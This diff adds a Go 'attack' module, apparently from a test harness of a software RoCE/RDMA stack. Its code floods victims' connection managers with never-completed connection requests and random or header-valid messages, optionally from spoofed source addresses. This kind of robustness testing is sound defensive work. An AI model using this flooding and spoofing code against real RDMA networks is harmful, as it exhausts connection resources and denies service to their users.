@@ -1,0 +1,81 @@
+package attack
+
+import (
+	"net/netip"
+
+	"github.com/verbena-rdma/verbena/soft/internal/roce/cm"
+	"github.com/verbena-rdma/verbena/soft/internal/roce/cm/mad"
+	"github.com/verbena-rdma/verbena/soft/internal/roce/wire"
+	"github.com/verbena-rdma/verbena/verbs"
+)
+
+// floodRequests sends requests for connections, of ever new queue pairs and identities, to the
+// listeners of the right victim. Nobody completes them.
+func floodRequests(a *attacker) error {
+	return a.floodManagers(func(s *sender, message *[mad.Len]byte, port uint16) error {
+		var private [mad.IPHeaderLen]byte
+		header := mad.IPHeader{Source: s.from.Addr(), Destination: s.to.Addr(), SourcePort: uint16(a.rng.Uint32())}
+		header.Encode(&private)
+		r := mad.REQ{
+			TransactionID: a.rng.Uint64(), LocalCommID: a.rng.Uint32(), CAGUID: a.rng.Uint64(), QPN: a.rng.Uint32N(1<<24-2) + 2,
+			ServiceID: cm.Service{Space: cm.PortSpaceTCP, Port: port}.ID(), RemoteResponseTimeout: 20, LocalResponseTimeout: 20,
+			ResponderResources: 1, InitiatorDepth: 1, PKey: 0xffff, PathMTU: 1, RetryCount: 7, RNRRetry: 7, MaxCMRetries: 15,
+			PrivateData: private[:],
+			Primary: mad.Path{
+				LocalLID: mad.PermissiveLID, RemoteLID: mad.PermissiveLID, HopLimit: 64, AckTimeout: 17,
+				LocalGID: verbs.GIDFromAddr(s.from.Addr()), RemoteGID: verbs.GIDFromAddr(s.to.Addr()),
+			},
+		}
+		return r.Encode(message)
+	})
+}
+
+// floodMessages sends random bytes to the connection managers.
+func floodMessages(a *attacker) error {
+	return a.floodManagers(func(_ *sender, message *[mad.Len]byte, _ uint16) error {
+		for i := range message {
+			message[i] = byte(a.rng.Uint32())
+		}
+		if a.rng.IntN(2) == 0 { // a header that passes, and an attribute that there is
+			copy(message[:], []byte{1, 7, 2, 3, 0, 0, 0, 0})
+			message[16], message[17] = 0, 0x10+byte(a.rng.IntN(16))
+		}
+		return nil
+	})
+}
+
+func (a *attacker) floodManagers(fill func(s *sender, message *[mad.Len]byte, port uint16) error) error {
+	var message [mad.Len]byte
+	var senders []*sender
+	for _, end := range a.ends[2:] {
+		if a.row.from != bySpoofing {
+			s, err := a.socket(end.Addr)
+			if err != nil {
+				return err
+			}
+			senders = append(senders, s)
+			continue
+		}
+		for host := range 64 { // of the network of the victims
+			from := netip.AddrFrom4([4]byte{10, 66, 0, byte(100 + host)})
+			s, err := newSenderAs(bySpoofing, from, netip.AddrPortFrom(from, 4791), end.Addr)
+			if err != nil {
+				return err
+			}
+			senders = append(senders, s)
+			a.senders = append(a.senders, s)
+		}
+	}
+	for !a.stopped() {
+		for i, s := range senders {
+			if err := fill(s, &message, a.ends[2+2*i/len(senders)].Listener); err != nil {
+				return err
+			}
+			s.send(&wire.Packet{
+				Opcode: wire.UDSendOnly, DestQP: 1, PSN: a.rng.Uint32() & wire.PSNMask,
+				DETH: wire.DETH{QKey: cm.QKey, SrcQP: 1}, Payload: message[:],
+			})
+		}
+	}
+	return nil
+}
